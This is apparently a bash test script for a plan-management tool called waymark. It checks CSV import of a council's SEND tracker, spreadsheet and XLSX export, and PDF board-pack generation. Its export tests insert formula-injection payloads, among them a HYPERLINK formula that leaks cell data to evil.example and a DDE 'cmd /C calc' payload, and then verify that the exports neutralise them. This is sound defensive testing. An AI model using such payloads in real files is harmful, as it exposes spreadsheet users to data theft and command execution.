#!/bin/bash
# test-import-export.sh: plans in and out of Excel, and the board pack (issue 8)
#
# Usage: test-import-export.sh PATH-TO-waymark-cli PATH-TO-waymark-generate
# Prints TAP; exits non-zero when any check fails.  Workbooks are opened by
# LibreOffice (libreoffice-calc-nogui), as a board member's Excel would open
# them; PDFs are checked by qpdf and read back by poppler's pdftotext.
set -euo pipefail

cli=${1:?usage: test-import-export.sh PATH-TO-waymark-cli PATH-TO-waymark-generate}
generate=${2:?usage: test-import-export.sh PATH-TO-waymark-cli PATH-TO-waymark-generate}
tmp=$(mktemp -d "${TMPDIR:-/tmp}/waymark-import-export.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
python=$(command -v python3)
# LibreOffice wants a profile it can write; never the user's own
export HOME=$tmp/home
mkdir -p "$HOME"

n=0
failed=0

ok () { n=$((n + 1)); echo "ok $n - $1"; }
skip () { n=$((n + 1)); echo "ok $n - $1 # SKIP $2"; }
not_ok ()
{
  n=$((n + 1))
  failed=$((failed + 1))
  echo "not ok $n - $1"
  if [[ -n ${2:-} ]]; then
    sed 's/^/#   /' <<< "$2"
  fi
}

check ()
{
  local description=$1
  shift
  if "$@"; then
    ok "$description"
  else
    not_ok "$description" "stdout: $(head -c 3000 "$tmp/out" 2> /dev/null)
stderr: $(head -c 3000 "$tmp/err" 2> /dev/null)"
  fi
}

run ()
{
  set +e
  "$cli" "$@" > "$tmp/out" 2> "$tmp/err"
  status=$?
  set -e
}

count ()
{
  "$python" - "$1" "$2" << 'EOF'
import sqlite3, sys
print(sqlite3.connect(sys.argv[1]).execute("SELECT count(*) FROM " + sys.argv[2]).fetchone()[0])
EOF
}

# ---------- a plan in a layout never seen ----------

# A council's tracker: its own headers, themes written once (merged cells),
# no action codes for most rows, free-text dates, RAG words; semicolons,
# CRLF and a cell over two lines, as a continental Excel saves it.
db=$tmp/plan.waymark
run --db "$db" init --area Testshire --title "Testshire WSOA"
check "init makes an empty plan" test "$status" -eq 0

printf '%s\r\n' \
  'Workstream;Ref No;What we will do;Who;Organisation;Begins;Target date;Done;RAG status;Latest update;How we will know' \
  'Timeliness of EHC plans;;Clear the backlog of EHC needs assessments;Head of SEND;LA;31/10/2020;April 2023;;AMBER;Backlog down to 40;20-week timeliness' \
  ';;Weekly tracking of the 20-week timeline;SEND Hub manager;LA;In place;Sep-23;;Green;;' \
  ';;Recruit two more EHC coordinators;"Head of SEND' \
  'HR business partner";LA;Underway;TBC – pending recruitment;;red;Advert out;' \
  'Joint commissioning;JC1;Joint commissioning strategy;"DCO; Head of Commissioning";"ICB; LA";;Sept 23;;C;Signed off by the board;' \
  ';;Sufficiency plan for specialist places;Head of Commissioning;LA;Ongoing;Complete during Q1;;Completed;;' \
  > "$tmp/tracker.csv"

maps=(--map 'Workstream=priority' --map 'Ref No=code' --map 'What we will do=title'
      --map 'Who=lead' --map 'Organisation=agency' --map 'Begins=start' --map 'Target date=due'
      --map 'Done=completed' --map 'RAG status=rating' --map 'Latest update=progress'
      --map 'How we will know=impact')

run --db "$db" import-csv actions "$tmp/tracker.csv"
check "without --map, the import is refused, names the columns and suggests --map" \
  eval '[[ $status -eq 1 ]] && grep -qF "“Workstream”" "$tmp/err" && grep -qF -- "--map" "$tmp/err" && [[ $(count "$db" action) -eq 0 ]]'

run --db "$db" import-csv actions "$tmp/tracker.csv" "${maps[@]}"
check "with --map every row imports: 5 actions, 2 priorities" \
  eval '[[ $status -eq 0 ]] && grep -qF "5 created" "$tmp/out" && grep -qF "2 priorities created" "$tmp/out"'
check "non-dates are kept with a warning naming the line and column" \
  eval 'grep -qF "line 3, column “Begins”: “In place” is not a date; kept as text" "$tmp/err" &&
        grep -qF "line 4, column “Target date”: “TBC – pending recruitment” is not a date" "$tmp/err" &&
        grep -qF "line 7, column “Target date”: “Complete during Q1”" "$tmp/err" &&
        grep -qF "line 7, column “Begins”: “Ongoing”" "$tmp/err" &&
        grep -qF "line 4, column “Begins”: “Underway”" "$tmp/err"'

"$cli" --db "$db" export-csv actions > "$tmp/imported.csv"
"$python" - "$tmp/imported.csv" > "$tmp/summary" << 'EOF'
import csv, sys
for row in csv.DictReader(open(sys.argv[1], encoding='utf-8-sig')):
    print('|'.join([row['priority'], row['code'], row['start'], row['due'], row['due_text'],
                    row['rating'], row['lead']]))
EOF
check "codes come from the priority's order; dates read day first; RAG words matched" \
  diff -u - "$tmp/summary" << 'EOF'
1|1.1|2020-10-31|2023-04-30|April 2023|A|Head of SEND
1|1.2|In place|2023-09-30|Sep-23|G|SEND Hub manager
1|1.3|Underway||TBC – pending recruitment|R|Head of SEND; HR business partner
2|JC1||2023-09-30|Sept 23|B|DCO; Head of Commissioning
2|2.1|Ongoing||Complete during Q1|B|Head of Commissioning
EOF
check "generated codes are marked as generated" \
  eval '[[ $("$python" -c "import sqlite3, sys; print(\",\".join(r[0] for r in sqlite3.connect(sys.argv[1]).execute(\"SELECT code FROM action WHERE code_generated = 1 ORDER BY code\")))" "$db") == "1.1,1.2,1.3,2.1" ]]'

# The same file again: matched by code and title, nothing new
run --db "$db" import-csv actions "$tmp/tracker.csv" "${maps[@]}"
check "importing the same file again creates nothing" \
  eval '[[ $status -eq 0 ]] && grep -qF "0 created, 0 updated, 5 unchanged" "$tmp/out" && [[ $(count "$db" action) -eq 5 ]]'

# An unknown rating anywhere: nothing imported, the line and column named
sed 's/;Green;/;Purple;/' "$tmp/tracker.csv" | sed 's/Weekly tracking/Daily tracking/' > "$tmp/bad.csv"
run --db "$db" import-csv actions "$tmp/bad.csv" "${maps[@]}"
check "an unknown rating is reported with its line and column, not guessed" \
  eval '[[ $status -eq 1 ]] && grep -qF "line 3, column “RAG status”: “Purple” is not a rating of this plan" "$tmp/err" && grep -qF "nothing was imported" "$tmp/err"'
check "…and nothing was imported" test "$(count "$db" action)" -eq 5

# Latin-1 from an old Excel, and files that are not plans
printf 'Title;Due\r\nFund \x96 \xa32m for places;Sep-23\r\n' > "$tmp/latin1.csv"
run --db "$db" import-csv actions "$tmp/latin1.csv"
"$cli" --db "$db" export-csv actions > "$tmp/latin1-out.csv"
check "Windows-1252 text is read, with a warning" \
  eval '[[ $status -eq 0 ]] && grep -qF "Windows-1252" "$tmp/err" && grep -qF "Fund – £2m for places" "$tmp/latin1-out.csv"'
printf 'PK\003\004\024\000\000\000' > "$tmp/plan.xlsx.csv"
run --db "$db" import-csv actions "$tmp/plan.xlsx.csv"
check "a spreadsheet file that is not CSV is refused clearly" \
  eval '[[ $status -eq 1 ]] && grep -qF "not a CSV text file" "$tmp/err"'
: > "$tmp/empty.csv"
run --db "$db" import-csv actions "$tmp/empty.csv"
check "an empty file is refused" eval '[[ $status -eq 1 ]] && grep -qF "empty" "$tmp/err"'
printf 'code,title,due\r\n' > "$tmp/header.csv"
run --db "$db" import-csv actions "$tmp/header.csv"
check "a header-only file is refused" \
  eval '[[ $status -eq 1 ]] && grep -qF "no actions under it" "$tmp/err"'

# ---------- exports a spreadsheet cannot run ----------

sample=$tmp/sample.waymark
"$cli" --db "$sample" init --sample > /dev/null
hostile=('=HYPERLINK("http://evil.example/?"&A1,"Details")' "+cmd|' /C calc'!A0" '-2+3'
         '@SUM(1,2)' $'\t=1+1' $'\r=1+1')
"$cli" --db "$sample" set action 1.1 "progress=${hostile[0]}" > /dev/null
"$cli" --db "$sample" set action 1.2a "title=${hostile[1]}" > /dev/null
"$cli" --db "$sample" set action 1.2b "evidence=${hostile[2]}" > /dev/null
"$cli" --db "$sample" set action 1.3a "impact=${hostile[3]}" > /dev/null
"$cli" --db "$sample" set risk RR1 "mitigation=${hostile[0]}" "progress=${hostile[3]}" > /dev/null
"$python" - "$sample" "${hostile[4]}" "${hostile[5]}" << 'EOF'
# tab and CR: the command line strips them, so they are written directly
# (a pasted cell is how they arrive in real plans)
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("UPDATE action SET description = ? WHERE code = '1.3b'", (sys.argv[2],))
db.execute("UPDATE action SET progress = ? WHERE code = '2.1'", (sys.argv[3],))
db.commit()
EOF

"$cli" --db "$sample" export-csv actions -o "$tmp/actions.csv"
"$cli" --db "$sample" export-csv risks -o "$tmp/risks.csv"
run --db "$sample" export-xlsx -o "$tmp/plan.xlsx"
check "export-xlsx writes the workbook" eval '[[ $status -eq 0 && -s $tmp/plan.xlsx ]]'

# defused SHEET-CSV...: no cell a spreadsheet would evaluate; every
# hostile value present, behind an apostrophe
defused ()
{
  "$python" - "$@" << 'EOF'
import csv, re, sys
bad = []
for path in sys.argv[1:]:
    for row in csv.reader(open(path, encoding='utf-8-sig', newline='')):
        for cell in row:
            first = cell[:1]
            if first in ('=', '@', '\t', '\r') or (first in ('+', '-') and not re.fullmatch(r'[-+]?\d+(\.\d+)?', cell)):
                bad.append((path, cell))
for b in bad:
    print("evaluable cell:", b)
sys.exit(1 if bad else 0)
EOF
}
has_prefixed ()
{
  "$python" - "$1" "${hostile[@]}" << 'EOF'
import csv, sys
cells = set()
for row in csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline='')):
    cells.update(c.replace('\r\n', '\n') for c in row)
missing = [h for h in sys.argv[2:] if "'" + h.replace('\r', '\n') not in cells and "'" + h not in cells]
for m in missing:
    print("not found prefixed:", repr(m))
sys.exit(1 if missing else 0)
EOF
}
check "the CSV exports contain no cell a spreadsheet would evaluate" \
  defused "$tmp/actions.csv" "$tmp/risks.csv"

if command -v libreoffice > /dev/null; then
  # Every sheet to its own CSV, cells as shown (dates as the workbook
  # formats them)
  set +e
  (cd "$tmp" && timeout 120 libreoffice --headless \
     --convert-to 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1' \
     --outdir "$tmp/lo" "$tmp/plan.xlsx") > "$tmp/out" 2> "$tmp/err"
  set -e
  check "LibreOffice opens the workbook: Actions first, then Risks, Audits, KPI values" \
    eval '[[ -s $tmp/lo/plan-Actions.csv && -s $tmp/lo/plan-Risks.csv && -s $tmp/lo/plan-Audits.csv && -s "$tmp/lo/plan-KPI values.csv" ]] && [[ $(grep -m 1 "Writing sheet" "$tmp/out") == *Actions* ]]'

  # same_cells CSV-EXPORT SHEET-CSV: cell for cell, dates shown dd/mm/yyyy
  # in the workbook and ISO in CSV
  same_cells ()
  {
    "$python" - "$1" "$2" << 'EOF'
import csv, re, sys
a = list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline='')))
b = list(csv.reader(open(sys.argv[2], encoding='utf-8', newline='')))
def norm(cell):
    m = re.fullmatch(r'(\d\d)/(\d\d)/(\d{4})', cell)
    cell = '%s-%s-%s' % (m.group(3), m.group(2), m.group(1)) if m else cell
    return cell.replace('\r\n', '\n').replace('\r', '\n')
width = max(len(r) for r in a + b)
pad = lambda r: [norm(c) for c in r] + [''] * (width - len(r))
diffs = [(i, j, x, y) for i, (ra, rb) in enumerate(zip(a, b))
         for j, (x, y) in enumerate(zip(pad(ra), pad(rb))) if x != y]
for d in diffs[:10]:
    print("row %d column %d: CSV %r, workbook %r" % d)
if len(a) != len(b):
    print("rows: CSV %d, workbook %d" % (len(a), len(b)))
sys.exit(1 if diffs or len(a) != len(b) else 0)
EOF
  }
  check "the Actions sheet has the same cells as export-csv actions" \
    same_cells "$tmp/actions.csv" "$tmp/lo/plan-Actions.csv"
  check "the Risks sheet has the same cells as export-csv risks" \
    same_cells "$tmp/risks.csv" "$tmp/lo/plan-Risks.csv"
  check "the KPI values sheet has a row per value" \
    eval '[[ $(( $("$python" -c "import csv,sys; print(len(list(csv.reader(open(sys.argv[1])))))" "$tmp/lo/plan-KPI values.csv") - 1 )) -eq $(count "$sample" kpi_value) ]]'
  check "no cell of any sheet, as LibreOffice reads it, would be evaluated" \
    defused "$tmp"/lo/plan-*.csv
  check "every hostile value comes back as text, behind an apostrophe" \
    eval 'has_prefixed "$tmp/lo/plan-Actions.csv" && has_prefixed "$tmp/actions.csv"'
else
  skip "LibreOffice reads the workbook" "libreoffice is not installed (libreoffice-calc-nogui)"
fi

# The workbook's own XML: no formulas at all, dates as numbers in a date
# format, a frozen header row, rating cells filled with the rating colours
check "the workbook holds no formula, freezes its header, types its dates, fills its ratings" \
  "$python" - "$tmp/plan.xlsx" "$sample" << 'EOF'
import re, sqlite3, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
sheets = sorted(n for n in z.namelist() if n.startswith('xl/worksheets/sheet'))
workbook = z.read('xl/workbook.xml').decode()
names = re.findall(r'<sheet name="([^"]+)"', workbook)
assert names == ['Actions', 'Risks', 'Audits', 'KPI values'], names
for name in sheets:
    xml = z.read(name).decode()
    assert '<f>' not in xml and '<f ' not in xml, name + ' holds a formula'
    assert 'state="frozen"' in xml and 'ySplit="1"' in xml, name + ' has no frozen header'
styles = z.read('xl/styles.xml').decode()
assert 'formatCode="dd/mm/yyyy"' in styles, 'no date format'
actions = z.read('xl/worksheets/sheet1.xml').decode()
# column G is "start": a number (no t="s"), not a string
cell = re.search(r'<c r="G2"([^>]*)>(.*?)</c>', actions)
assert cell and 't="s"' not in cell.group(1), cell
# the colour of every rating an action has
used = sqlite3.connect(sys.argv[2]).execute(
    "SELECT DISTINCT r.colour FROM action a JOIN rating r ON r.id = a.rating_id").fetchall()
assert len(used) >= 3, used
for (colour,) in used:
    assert 'rgb="FF' + colour[1:].upper() + '"' in styles, 'no fill for rating colour ' + colour
EOF

# ---------- the board pack ----------

if command -v qpdf > /dev/null && command -v pdftotext > /dev/null; then
  pristine=$tmp/pristine.waymark
  "$cli" --db "$pristine" init --sample > /dev/null
  run --db "$pristine" report -o "$tmp/pack.pdf" --date 2023-08-16
  check "report writes the board pack" eval '[[ $status -eq 0 && -s $tmp/pack.pdf ]]'
  check "the PDF passes qpdf --check" qpdf --check "$tmp/pack.pdf"
  pdftotext -layout "$tmp/pack.pdf" "$tmp/pack.txt"
  "$cli" --db "$pristine" export-csv actions > "$tmp/pristine.csv"
  check "pdftotext finds every action code" \
    "$python" - "$tmp/pristine.csv" "$tmp/pack.txt" << 'EOF'
import csv, re, sys
text = open(sys.argv[2]).read()
codes = [r['code'] for r in csv.DictReader(open(sys.argv[1], encoding='utf-8-sig'))]
missing = [c for c in codes if not re.search(r'(^|\s)' + re.escape(c) + r'(\s|$)', text, re.M)]
print("missing:", missing) if missing else None
sys.exit(1 if missing or len(codes) != 13 else 0)
EOF
  check "pdftotext finds every risk ref" \
    eval 'for r in RR1 RR2 RR3 RR4 RR5 RR6 RR7; do grep -qw "$r" "$tmp/pack.txt" || exit 1; done'
  # As at 16 August 2023: 2.2a Red; 1.2a, 1.3a, 2.2b, 3.2 Amber; 3.2 overdue
  check "the exception list holds every Red, Amber and overdue action" \
    "$python" - "$tmp/pack.txt" << 'EOF'
import re, sys
text = open(sys.argv[1]).read()
start = text.index('Exceptions: Red, Amber and overdue actions', text.index('Contents') + 200)
section = text[start:text.index('Milestones', start)]
want = ['1.2a', '1.3a', '2.2a', '2.2b', '3.2']
found = [c for c in re.findall(r'^\s*(\d\.\d[a-z]?)\s', section, re.M)]
print("found", found)
sys.exit(0 if found == want and '16 days' in section and 'overdue' in section else 1)
EOF
  check "the pack has a cover, contents, page numbers and what changed" \
    eval 'grep -q "Period covered" "$tmp/pack.txt" && grep -q "Contents" "$tmp/pack.txt" && grep -q "Page 2 of" "$tmp/pack.txt" && grep -q "What changed since the last board" "$tmp/pack.txt"'
  qpdf --json --json-key=outlines "$tmp/pack.pdf" > "$tmp/outline.json" || true
  check "the PDF has an outline of its headings" \
    eval 'grep -qF "\"title\": \"Exceptions: Red, Amber and overdue actions\"" "$tmp/outline.json" && grep -qF "\"title\": \"Gantt chart\"" "$tmp/outline.json"'
  run --db "$pristine" report -o "$tmp/part.pdf" --date 2023-08-16 --sections summary,risks
  pdftotext "$tmp/part.pdf" "$tmp/part.txt" || true
  check "--sections leaves the other sections out" \
    eval '[[ $status -eq 0 ]] && grep -q "Risks by residual score" "$tmp/part.txt" && ! grep -q "Exceptions" "$tmp/part.txt"'
  run --db "$pristine" report -o "$tmp/x.pdf" --sections budgets
  check "an unknown section is a usage error naming it" \
    eval '[[ $status -eq 2 ]] && grep -qF "“budgets” is not a section" "$tmp/err"'

  # Audits, when the plan has them: the summary and the audit charts
  audits_csv=${G_TEST_SRCDIR:-$(dirname "$0")/..}/data/audits-moderation.csv
  if [[ -f $audits_csv ]]; then
    "$cli" --db "$pristine" import-csv audits "$audits_csv" > /dev/null
    run --db "$pristine" report -o "$tmp/audits.pdf" --sections audits
    pdftotext "$tmp/audits.pdf" "$tmp/audits.txt" || true
    check "with audits held, the pack has the audit summary" \
      eval '[[ $status -eq 0 ]] && grep -q "Audit summary" "$tmp/audits.txt" && grep -q "EHC plan audits" "$tmp/audits.txt"'
  else
    skip "the audit summary" "no audit data at $audits_csv"
  fi
  check "a plan without audits has no audit section" \
    eval '! grep -q "Audit summary" "$tmp/pack.txt"'

  # A generated 500-action plan: it finishes, and the Gantt pages split
  # the rows cleanly: every row once, in order, on landscape pages
  big=$tmp/big.waymark
  "$generate" --db "$big" --actions 500 --risks 40 > /dev/null
  run --db "$big" report -o "$tmp/big.pdf" --date 2025-01-15
  check "the 500-action report is written and passes qpdf --check" \
    eval '[[ $status -eq 0 ]] && qpdf --check "$tmp/big.pdf" > /dev/null'
  check "its Gantt pages cover every row once, in order, each on a landscape page" \
    "$python" - "$tmp/big.pdf" << 'EOF'
import re, subprocess, sys
pdf = sys.argv[1]
pages = int(re.search(r'Pages:\s+(\d+)', subprocess.run(['pdfinfo', pdf], capture_output=True, text=True).stdout).group(1))
expect, total, seen = 1, None, 0
for page in range(1, pages + 1):
    text = subprocess.run(['pdftotext', '-f', str(page), '-l', str(page), pdf, '-'], capture_output=True, text=True).stdout
    m = re.search(r'rows (\d+) to (\d+) of (\d+) · Gantt page (\d+) of (\d+)', text)
    if not m:
        continue
    first, last, total = int(m.group(1)), int(m.group(2)), int(m.group(3))
    assert first == expect, (page, first, expect)
    assert last >= first
    expect = last + 1
    seen += 1
    info = subprocess.run(['pdfinfo', '-f', str(page), '-l', str(page), pdf], capture_output=True, text=True).stdout
    assert re.search(r'size:\s+841\.8\d* x 595\.2', info), info
assert total is not None and expect == total + 1 and seen >= 2, (expect, total, seen)
EOF
else
  skip "the board pack" "qpdf or poppler-utils is not installed"
fi

echo "1..$n"
[[ $failed -eq 0 ]]
